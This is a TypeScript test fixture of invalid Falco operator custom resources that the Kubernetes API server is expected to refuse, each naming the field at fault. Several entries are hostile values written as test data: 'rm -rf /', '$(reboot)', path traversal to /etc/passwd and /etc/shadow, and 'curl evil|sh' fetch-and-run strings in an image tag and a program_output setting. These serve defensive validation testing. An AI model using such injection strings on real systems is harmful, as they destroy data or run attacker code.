/**
 * Bad FalcoRuleSets and FalcoMonitors, as users, scripts or a confused agent might send them.
 * Each must be refused by the real API server (the CRD schema and its CEL rules) with a message
 * naming the offending field; none may be stored.
 */
export interface BadCr {
  id: string;
  kind: 'FalcoRuleSet' | 'FalcoMonitor';
  /** Replaces the valid spec; `name` replaces the object's name. */
  spec: unknown;
  name?: string;
  /** A fragment of the field path the refusal must name. */
  field: string;
}

const RULES = '- list: ok\n  items: [a]\n';
const rs = (id: string, spec: unknown, field: string, name?: string): BadCr => ({ id, kind: 'FalcoRuleSet', spec, field, ...(name ? { name } : {}) });
const mon = (id: string, spec: Record<string, unknown>, field: string): BadCr => ({ id, kind: 'FalcoMonitor', spec: { image: { tag: '0.42.1' }, ...spec }, field });

export const BAD_CRS: BadCr[] = [
  // FalcoRuleSet: schema violations and wrong types
  rs('rules and configMapRef both missing', { loadOrder: 1 }, 'spec'),
  rs('rules and configMapRef both set', { rules: RULES, configMapRef: { name: 'cm' } }, 'spec'),
  rs('rules is a number', { rules: 123 }, 'spec.rules'),
  rs('rules is a list', { rules: ['- list: x'] }, 'spec.rules'),
  rs('rules is empty', { rules: '' }, 'spec.rules'),
  rs('rules above 1 MiB', { rules: `# ${'x'.repeat(1_048_600)}\n` }, 'spec.rules'),
  rs('rules above 1 MiB of multi-byte UTF-8', { rules: `# ${'é'.repeat(600_000)}\n` }, 'spec.rules'),
  rs('loadOrder negative', { rules: RULES, loadOrder: -1 }, 'spec.loadOrder'),
  rs('loadOrder too large', { rules: RULES, loadOrder: 1001 }, 'spec.loadOrder'),
  rs('loadOrder a string', { rules: RULES, loadOrder: '5' }, 'spec.loadOrder'),
  rs('loadOrder a fraction', { rules: RULES, loadOrder: 1.5 }, 'spec.loadOrder'),
  rs('enabled a string', { rules: RULES, enabled: 'yes' }, 'spec.enabled'),
  rs('configMapRef name not a DNS name', { configMapRef: { name: 'Bad_Name' } }, 'spec.configMapRef.name'),
  rs('configMapRef name 300 characters', { configMapRef: { name: 'a'.repeat(300) } }, 'spec.configMapRef.name'),
  rs('configMapRef without a name', { configMapRef: { key: 'rules.yaml' } }, 'spec.configMapRef.name'),
  rs('configMapRef key with path traversal', { configMapRef: { name: 'cm', key: '../../etc/passwd' } }, 'spec.configMapRef.key'),
  rs('configMapRef key with a slash', { configMapRef: { name: 'cm', key: 'etc/passwd' } }, 'spec.configMapRef.key'),
  rs('configMapRef a string', { configMapRef: 'cm' }, 'spec.configMapRef'),
  rs('unknown spec field carrying a command', { rules: RULES, command: 'rm -rf /' }, 'spec.command'),
  rs('unknown spec field for falco args', { rules: RULES, args: ['--unbuffered', '-o', 'program_output.enabled=true'] }, 'spec.args'),
  rs('spec a string', 'rules: x', 'spec'),
  rs('spec a list', [RULES], 'spec'),
  rs('name with upper case', { rules: RULES }, 'metadata.name', 'Shell-Rules'),
  rs('name with a path', { rules: RULES }, 'metadata.name', 'a.b..c'),
  rs('name with shell metacharacters', { rules: RULES }, 'metadata.name', 'x;rm-rf'),
  // FalcoMonitor: image and driver
  mon('image tag latest', { image: { tag: 'latest' } }, 'spec.image'),
  mon('image tag with shell injection', { image: { tag: '0.42.1;curl evil|sh' } }, 'spec.image.tag'),
  mon('image tag with a space', { image: { tag: '0.42.1 --privileged' } }, 'spec.image.tag'),
  mon('image tag and digest both set', { image: { tag: '0.42.1', digest: `sha256:${'a'.repeat(64)}` } }, 'spec.image'),
  mon('image digest malformed', { image: { digest: 'sha256:xyz' } }, 'spec.image.digest'),
  mon('image repository with upper case and spaces', { image: { repository: 'Evil Repo/falco', tag: '0.42.1' } }, 'spec.image.repository'),
  mon('image repository with a scheme', { image: { repository: 'https://evil.example/falco', tag: '0.42.1' } }, 'spec.image.repository'),
  mon('image pullPolicy unknown', { image: { tag: '0.42.1', pullPolicy: 'Sometimes' } }, 'spec.image.pullPolicy'),
  mon('driver kind unknown', { driver: { kind: 'ebpf-legacy' } }, 'spec.driver.kind'),
  mon('driver a string', { driver: 'kmod' }, 'spec.driver'),
  mon('minimumPriority unknown', { minimumPriority: 'Loud' }, 'spec.minimumPriority'),
  mon('includeDefaultRules a number', { includeDefaultRules: 1 }, 'spec.includeDefaultRules'),
  mon('suspend a string', { suspend: 'true' }, 'spec.suspend'),
  // FalcoMonitor: selection
  mon('selected name not a DNS name', { ruleSets: { names: ['Bad Name'] } }, 'spec.ruleSets.names'),
  mon('selected names above the limit', { ruleSets: { names: Array.from({ length: 65 }, (_, i) => `rs-${i}`) } }, 'spec.ruleSets.names'),
  mon('selected names duplicated', { ruleSets: { names: ['a', 'a'] } }, 'spec.ruleSets.names'),
  mon('selector operator unknown', { ruleSets: { selector: { matchExpressions: [{ key: 'a', operator: 'Like', values: ['b'] }] } } }, 'spec.ruleSets.selector.matchExpressions'),
  mon('selector labels not strings', { ruleSets: { selector: { matchLabels: { team: 5 } } } }, 'spec.ruleSets.selector.matchLabels'),
  // FalcoMonitor: pod settings and configuration
  mon('pod annotation value above 4096 bytes', { podAnnotations: { note: 'x'.repeat(5000) } }, 'spec.podAnnotations'),
  mon('too many pod annotations', { podAnnotations: Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`k${i}`, 'v'])) }, 'spec.podAnnotations'),
  mon('update strategy unknown', { updateStrategy: { type: 'Recreate' } }, 'spec.updateStrategy.type'),
  mon('maxUnavailable zero', { updateStrategy: { type: 'RollingUpdate', maxUnavailable: 0 } }, 'spec.updateStrategy.maxUnavailable'),
  mon('maxUnavailable a malformed percentage', { updateStrategy: { type: 'RollingUpdate', maxUnavailable: '150%' } }, 'spec.updateStrategy.maxUnavailable'),
  mon('toleration operator unknown', { tolerations: [{ key: 'a', operator: 'Matches' }] }, 'spec.tolerations'),
  mon('tolerations an object', { tolerations: { key: 'a' } }, 'spec.tolerations'),
  mon('resources quantity with a shell command', { resources: { limits: { memory: '$(reboot)' } } }, 'spec.resources.limits'),
  mon('nodeSelector value a number', { nodeSelector: { zone: 1 } }, 'spec.nodeSelector'),
  mon('extraConfig sets a key Falconer owns', { extraConfig: { rules_files: ['/etc/shadow'] } }, 'spec.extraConfig'),
  mon('extraConfig turns on program output', { extraConfig: { program_output: { enabled: true, program: 'sh -c "curl evil|sh"' } } }, 'spec.extraConfig'),
  mon('unknown spec field hostNetwork', { hostNetwork: true }, 'spec.hostNetwork'),
  mon('unknown spec field privileged', { privileged: true }, 'spec.privileged'),
];
